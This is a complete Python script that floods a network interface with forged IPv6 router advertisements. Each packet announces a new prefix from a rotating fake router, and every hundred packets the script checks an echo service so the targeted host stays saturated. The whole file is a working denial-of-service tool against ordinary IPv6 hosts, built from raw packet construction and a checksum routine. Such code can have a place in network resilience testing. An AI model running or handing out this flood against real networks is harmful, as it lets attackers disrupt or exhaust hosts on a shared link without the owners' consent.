"""Sends router advertisements endlessly: advertisement_flood.py INTERFACE HOST.

Each advertisement has another prefix, and every two advertisements come from another router. After every 100 advertisements,
the script waits for an echo from the host. In this way, the host is always busy, but the interface's queue is not full.
"""

import itertools
import socket
import struct
import sys


def checksum(source, destination, message):
    data = source + destination + struct.pack('>II', len(message), 58) + message
    total = sum(struct.unpack('>%dH' % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


ALL_NODES = socket.inet_pton(socket.AF_INET6, 'ff02::1')
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.bind((sys.argv[1], 0x86dd))
echo = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
echo.connect((sys.argv[2], 7))
echo.settimeout(1)
for number in itertools.count():
    router = socket.inet_pton(socket.AF_INET6, 'fe80::1:%x' % (number >> 1 & 0xffff))
    # Every second advertisement has the lifetime 0: its router is no longer a default router.
    lifetime = 0 if number & 1 else 1800
    prefix = struct.pack('>BBBBIII', 3, 4, 64, 0xc0, 2, 2, 0) + struct.pack('>HIH', 0xfd00, number, 0) + bytes(8)
    message = struct.pack('>BBHBBHII', 134, 0, 0, 64, 8, lifetime, 0, 0) + prefix
    message = message[:2] + struct.pack('>H', checksum(router, ALL_NODES, message)) + message[4:]
    header = struct.pack('>IHBB', 6 << 28, len(message), 58, 255) + router + ALL_NODES
    link.send(bytes.fromhex('333300000001 02dd00000001 86dd') + header + message)
    if number % 100 == 0:
        try:
            echo.send(b'ready?')
            echo.recv(100)
        except TimeoutError:
            # The flood continues after a lost echo.
            pass
    if number == 2000:
        print('flooding', flush=True)
